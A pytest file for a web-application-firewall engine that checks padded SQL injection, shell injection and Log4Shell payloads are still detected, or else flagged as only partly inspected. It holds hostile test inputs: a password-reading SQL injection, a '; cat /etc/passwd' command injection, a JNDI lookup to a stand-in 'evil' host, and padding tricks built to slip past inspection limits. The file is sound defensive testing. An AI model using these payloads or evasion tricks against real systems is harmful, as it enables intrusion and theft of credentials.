"""Incomplete inspection is never silently clean (issue 13, item 3).

For every limit that used to end inspection quietly, an attack padded past it (padding before
the payload) is now either detected, or the verdict says it is partial, with the reason. And
benign large documents within the limits are judged whole: not partial, not attacks.
"""

from __future__ import annotations

import gzip
import json
import random

import pytest

from wallarm_wire.protocol import RequestMessage
from node.detect.engine import MAX_DETECTOR_CALLS, Engine
from node.detect.request import MAX_FIELDS, MAX_JSON_DEPTH, MAX_TARGET
from node.detect.shell import detect_shell
from node.detect.sqli import MAX_SQL_LEN, detect_sqli
from node.detect.windows import normalise, windows

SQLI = "' union select password from users--"
SHELL = "; cat /etc/passwd"


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine()


def req(target: str = "/", body: bytes = b"", ctype: str | None = None, headers: list | None = None) -> RequestMessage:
    h = [(b"Host", b"app.example")] + (headers or [])
    if ctype:
        h.append((b"Content-Type", ctype.encode()))
    return RequestMessage("POST" if body else "GET", target, h, body)


def form(pairs: list[tuple[str, str]]) -> RequestMessage:
    from urllib.parse import urlencode
    return req("/submit", urlencode(pairs).encode(), "application/x-www-form-urlencoded")


def attack_types(det) -> set[str]:  # noqa: ANN001
    return {a.type for a in det.attacks} if det.is_attack else set()


# ---------------------------------------------------------------------------- detected whole

@pytest.mark.parametrize("pad", [" " * 1100, "\t \r\n" * 400, "\x01" * 13, "\x00\x7f" * 40, "A" * 8 * 1024,
                                 "A" * 128 * 1024, "word " * 4000, "/**/" * 600])
def test_sql_payload_after_padding_is_detected(engine: Engine, pad: str) -> None:
    """Whitespace, control characters, filler, comments: the SQL analyser reads the whole value."""
    det = engine.analyze_request(form([("q", "1" + pad + SQLI)]))
    assert "sqli" in attack_types(det), repr(pad[:20])


@pytest.mark.parametrize("pad", [" " * 3000, "\x01" * 13, "x" * 20_000, "&" * 3000, "a&" * 2000, "; echo\n" * 300])
def test_shell_payload_after_padding_is_detected(engine: Engine, pad: str) -> None:
    """Including a run of separators longer than one window (each separator is judged once)."""
    det = engine.analyze_request(form([("host", "127.0.0.1" + pad + SHELL)]))
    assert "rce" in attack_types(det), repr(pad[:20])


def test_padding_in_every_place(engine: Engine) -> None:
    pad = "A" * 20_000
    cases = {
        "query": req("/s?q=" + pad + "%27%20union%20select%20password%20from%20users--"),
        "json": req("/j", json.dumps({"a": pad + SQLI}).encode(), "application/json"),
        "cookie": req("/", headers=[(b"Cookie", f"sid={pad}{SQLI}".encode())]),
        "header": req("/", headers=[(b"X-Forwarded-Host", f"{pad}{SQLI}".encode())]),
        "multipart": req("/u", (b"--B\r\nContent-Disposition: form-data; name=\"f\"\r\n\r\n" + pad.encode()
                                + SQLI.encode() + b"\r\n--B--\r\n"), "multipart/form-data; boundary=B"),
        "xml": req("/x", f"<a><b>{pad}{SQLI}</b></a>".encode(), "application/xml"),
    }
    for where, msg in cases.items():
        det = engine.analyze_request(msg)
        assert "sqli" in attack_types(det), where


def test_many_dummy_fields_then_payload(engine: Engine) -> None:
    """150 dummy fields (300 with their names) used to fill the field cap."""
    det = engine.analyze_request(form([(f"f{i}", f"v {i}") for i in range(150)] + [("q", SQLI)]))
    assert "sqli" in attack_types(det) and not det.partial


def test_binary_value_is_judged_on_its_printable_runs(engine: Engine) -> None:
    blob = random.Random(3).randbytes(3000).decode("latin-1")
    det = engine.analyze_request(req("/j", json.dumps({"d": blob + SHELL + " " + blob}).encode(), "application/json"))
    assert "rce" in attack_types(det)


def test_log4j_after_padding(engine: Engine) -> None:
    det = engine.analyze_request(form([("q", "A" * 10_000 + "${${lower:j}ndi:ldap://evil/a}")]))
    assert "log4shell" in attack_types(det)


# ---------------------------------------------------------------------------- or partial, never clean

def test_field_cap_makes_the_verdict_partial(engine: Engine) -> None:
    # values the engine judges: trivial ones ('v') are never fields (node/detect/trivial.py)
    pairs = [(f"{i}", "v;") for i in range(MAX_FIELDS // 2 + 1)] + [("q", SQLI)]
    det = engine.analyze_request(form(pairs))
    assert "fields" in det.partial
    # trivial pairs take no room: the attack after 50,000 of them is judged, the verdict whole
    det = engine.analyze_request(form([(f"{i}", "v") for i in range(MAX_FIELDS // 2 + 1)] + [("q", SQLI)]))
    assert det.is_attack and not det.partial


def test_body_cap_makes_the_verdict_partial() -> None:
    small = Engine(max_body=64 * 1024)
    det = small.analyze_request(form([("pad", "A" * 70_000), ("q", SQLI)]))
    assert det.partial == ["body"] and not det.is_attack
    # raised, the same request is judged whole
    det = Engine(max_body=256 * 1024).analyze_request(form([("pad", "A" * 70_000), ("q", SQLI)]))
    assert det.is_attack and not det.partial


def test_decompressed_size_cap_makes_the_verdict_partial() -> None:
    body = gzip.compress(b"pad=" + b"A" * 200_000 + b"&q=" + SQLI.encode())
    msg = req("/f", body, "application/x-www-form-urlencoded", [(b"Content-Encoding", b"gzip")])
    assert Engine(max_body=64 * 1024).analyze_request(msg).partial == ["inflated"]
    assert Engine(max_body=1024 * 1024).analyze_request(msg).is_attack


def test_json_depth_cap_makes_the_verdict_partial(engine: Engine) -> None:
    doc: object = {"q": SQLI}
    for _ in range(MAX_JSON_DEPTH + 5):
        doc = {"a": doc}
    det = engine.analyze_request(req("/j", json.dumps(doc).encode(), "application/json"))
    assert det.partial == ["depth"]
    shallow: object = {"q": SQLI}
    for _ in range(MAX_JSON_DEPTH - 2):
        shallow = {"a": shallow}
    det = engine.analyze_request(req("/j", json.dumps(shallow).encode(), "application/json"))
    assert det.is_attack and not det.partial


def test_target_cap_makes_the_verdict_partial(engine: Engine) -> None:
    det = engine.analyze_request(req("/s?pad=" + "A" * MAX_TARGET + "&q=%27%20or%201%3D1--"))
    assert det.partial == ["value"]


def decoys(n: int) -> list[tuple[str, str]]:
    """Clean values that each need the SQL analyser (the budget grows by one per 256 bytes of
    request: each decoy takes ~30)."""
    return [(f"d{i}", f"x' or {i} apples") for i in range(n)]


def test_detector_budget_makes_the_verdict_partial() -> None:
    """Fresh decoys that each need the SQL analyser, then the payload: 33 (the issue's shape)
    are within the budget grown with the request, and the payload is found; 200 are not, and
    the verdict says so."""
    fresh = Engine()
    det = fresh.analyze_request(form(decoys(MAX_DETECTOR_CALLS + 1) + [("q", "1' or '1'='1")]))
    assert det.is_attack and not det.partial
    det = Engine().analyze_request(form(decoys(200) + [("q", "1' or '1'='1")]))
    assert not det.is_attack and det.partial == ["budget"]


def test_deadline_makes_the_verdict_partial() -> None:
    engine = Engine(deadline=(0.0, 0.0))  # no CPU time allowed past the part always judged
    big = form([(f"f{i}", "a b " * 3000) for i in range(4)] + [("q", SQLI)])
    assert engine.analyze_request(big).partial == ["deadline"]
    # inside one long value: the window loop stops too
    det = engine.analyze_request(form([("q", "x" * 8000 + "'  " + "a " * 40_000 + SQLI)]))
    assert det.partial == ["deadline"] or det.is_attack


def test_header_flood_cut_by_time_is_partial() -> None:
    engine = Engine(deadline=(0.0, 0.0))
    msg = req("/", headers=[(f"X-H{i}".encode(), f"v {i}".encode()) for i in range(600)])
    assert engine.analyze_request(msg).partial == ["deadline"]


def test_partial_verdicts_are_not_cached() -> None:
    """The payload's value, judged without its analyser (budget spent), must not be kept: the
    same field in a small request is judged afresh, and found."""
    fresh = Engine()
    first = fresh.analyze_request(form(decoys(200) + [("q", "1' or '1'='1")]))
    assert "budget" in first.partial and not first.is_attack
    second = fresh.analyze_request(form([("q", "1' or '1'='1")]))
    assert second.is_attack and not second.partial


# ---------------------------------------------------------------------------- benign, within limits

def _document(size: int) -> bytes:
    rng = random.Random(5)
    words = "the quick brown fox jumps over a lazy dog order user account item price total city".split()
    items, body = [], b""
    while len(body) < size:
        for i in range(200):
            n = len(items)
            items.append({"id": n, "name": " ".join(rng.choice(words) for _ in range(3)), "email": f"u{n}@example.com",
                          "note": " ".join(rng.choice(words) for _ in range(20)) + ".",
                          "tags": [rng.choice(words) for _ in range(3)], "url": f"https://example.com/i/{n}?p={n % 7}"})
        body = json.dumps({"items": items}).encode()
    return body


def test_a_900_kb_json_document_is_judged_whole(engine: Engine) -> None:
    body = _document(900 * 1024)
    assert 900 * 1024 <= len(body) < 1024 * 1024
    det = engine.analyze_request(req("/api/items", body, "application/json"))
    assert not det.is_attack and not det.partial


def test_a_60_field_form_is_judged_whole(engine: Engine) -> None:
    det = engine.analyze_request(form([(f"field_{i}", f"value {i}, with some text & punctuation!") for i in range(60)]))
    assert not det.is_attack and not det.partial


def test_a_5_mb_upload_is_judged_whole_when_max_body_is_raised() -> None:
    data = random.Random(7).randbytes(5 * 1024 * 1024)
    body = (b"--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"photo.jpg\"\r\n"
            b"Content-Type: image/jpeg\r\n\r\n" + data + b"\r\n--B--\r\n")
    msg = req("/upload", body, "multipart/form-data; boundary=B")
    assert Engine().analyze_request(msg).partial == ["body"]  # default max_body: 1 MiB
    det = Engine(max_body=8 * 1024 * 1024).analyze_request(msg)
    assert not det.is_attack and not det.partial


# ---------------------------------------------------------------------------- windows

def test_windows_cover_every_short_payload_once_whole() -> None:
    text = "".join(random.Random(1).choice("ab ") for _ in range(10_000))
    width = 64
    parts = list(windows(text, width))
    assert parts[-1][1] + len(parts[-1][0]) == len(text)
    assert sum(owned for _, _, owned in parts) == len(text)  # each position owned once
    for at in range(0, len(text) - width // 2):
        assert any(start <= at and at + width // 2 <= start + len(w) for w, start, _ in parts), at


def test_normalise_collapses_runs_in_linear_time() -> None:
    assert normalise("a" + " " * 5000 + "b") == "a b"
    assert normalise("a \r\n \r\n b") == "a \n b"
    assert normalise("a\x00\x01\x02b") == "a b"
    import time
    started = time.perf_counter()
    normalise(" " * 500_000 + "x")
    normalise(" \n" * 250_000)
    assert time.perf_counter() - started < 0.5


def test_a_flood_of_one_short_shape_costs_a_hash_per_window(engine: Engine) -> None:
    """1 MB of `x' or ` repeats: each distinct window is tokenised once (it took ~140 ms)."""
    import time
    msg = req("/j", json.dumps({"a": "x' or " * 170_000}).encode(), "application/json")
    started = time.thread_time()
    det = Engine(max_body=2 * 1024 * 1024).analyze_request(msg)
    assert not det.partial and time.thread_time() - started < 0.1


def test_detectors_read_whole_values() -> None:
    assert detect_sqli("x" * (3 * MAX_SQL_LEN) + SQLI)
    assert detect_shell("x" * 10_000 + SHELL)
    # a URL stays a URL in every window: only a quote break-out counts in it
    assert detect_sqli("https://a.example/?q=" + "x" * 3000 + " or 1=1 and select 1 from t") is None
